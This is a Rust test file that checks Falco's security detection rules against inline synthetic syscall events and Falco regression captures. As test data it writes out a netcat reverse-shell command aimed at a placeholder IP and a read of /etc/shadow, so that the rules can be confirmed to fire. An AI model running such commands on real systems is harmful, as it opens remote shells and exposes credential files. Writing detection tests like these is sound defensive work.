//! Rule tests over upstream Falco material (`../shared/upstream`, found by the testkit's
//! locator): Falco's own rules driven by inline events, and the captures of Falco's
//! regression suite with the detections it expects. The test files are written at run time
//! because they name the material's location; absent material skips with one line.

use std::path::Path;

use peregrine_ruletest::{report, run_file};

fn run(name: &str, upstream: &Path, body: &str) {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join(format!("{name}.yaml"));
    let text = body.replace("{U}", &upstream.display().to_string());
    std::fs::write(&path, text).expect("test file");
    let outcome = run_file(&path, None).unwrap_or_else(|e| panic!("{e}"));
    let files = [outcome];
    let t = report::totals(&files);
    assert_eq!((t.failed, t.skipped), (0, 0), "{}", report::text(&files));
    assert!(t.passed > 0);
}

/// Falco's stable rules (falco-rules 5.1.0) on events written inline: each fires on its
/// attack, and a near miss stays silent.
#[test]
fn falco_stable_rules_on_inline_events() {
    let Some(u) = peregrine_testkit::upstream::require("falco_stable_rules_on_inline_events")
    else {
        return;
    };
    run(
        "stable",
        &u,
        r#"
rules: ["{U}/rules/falco_rules.yaml"]
tests:
  - name: Read sensitive file untrusted
    events:
      - type: openat
        proc: {cmdline: cat /etc/shadow, parents: [python3, sshd]}
        args: {fd: 3, name: /etc/shadow, flags: O_RDONLY}
    expect:
      - rule: Read sensitive file untrusted
        count: 1
        output_fields: {fd.name: /etc/shadow, proc.name: cat, proc.pname: python3}
  - name: sshd reading /etc/shadow is trusted
    events:
      - type: openat
        proc: {name: sshd, parents: [systemd]}
        args: {fd: 3, name: /etc/shadow, flags: O_RDONLY}
    expect: nothing
  - name: Terminal shell in container (the container's entrypoint)
    events:
      - type: execve
        proc:
          name: bash
          tty: 34816
          parents: [runc]
          container: &c {id: 3ad7b26ded6d8e7b23da7d48fe889434573036c27ae5a74837233de441c3601e, name: web, image: "docker.io/library/nginx:1.25"}
    expect:
      - rule: Terminal shell in container
        output_fields: {proc.name: bash, proc.pname: runc}
  - name: a shell without a terminal is no terminal shell
    events:
      - type: execve
        proc: {name: bash, parents: [runc], container: *c}
    expect: nothing
  - name: Netcat Remote Code Execution in Container
    events:
      - type: execve
        proc: {cmdline: nc -e /bin/sh 203.0.113.7 4444, parents: [bash], container: *c}
    expect:
      - rule: Netcat Remote Code Execution in Container
        count: 1
  - name: netcat without -e or -c
    events:
      - type: execve
        proc: {cmdline: nc -z 10.0.0.1 80, parents: [bash], container: *c}
    expect:
      - rule: Netcat Remote Code Execution in Container
        fires: false
"#,
    );
}

/// Captures of Falco's regression suite, with the rules files and options its legacy tests
/// use and the detection counts they assert (falco-testing/legacy_tests.json).
#[test]
fn falco_regression_captures() {
    let Some(u) = peregrine_testkit::upstream::require("falco_regression_captures") else {
        return;
    };
    run(
        "captures",
        &u,
        r#"
tests:
  - name: TestFalco_Legacy_RuleNamesWithRegexChars
    rules: ["{U}/falco-testing/rules/legacy/falco_rules.yaml", "{U}/falco-testing/rules/rule_names_with_regex_chars.yaml"]
    capture: "{U}/captures/falco/cat_write.scap"
    expect:
      - rule: 'Open From Cat ($\.*+?()[]{}|^)'
        count: 8
  - name: TestFalco_Legacy_Syscalls
    rules: ["{U}/falco-testing/rules/syscalls.yaml"]
    capture: "{U}/captures/falco/syscall.scap"
    expect:
      - rule: detect_madvise
        count: 2
      - rule: detect_open
        count: 2
  - name: TestFalco_Legacy_EnabledRuleUsingFalseEnabledFlagOnly
    rules: ["{U}/falco-testing/rules/enabled_rule_using_enabled_flag_only.yaml"]
    capture: "{U}/captures/falco/cat_write.scap"
    expect:
      - rule: open_from_cat
        count: 8
"#,
    );
}
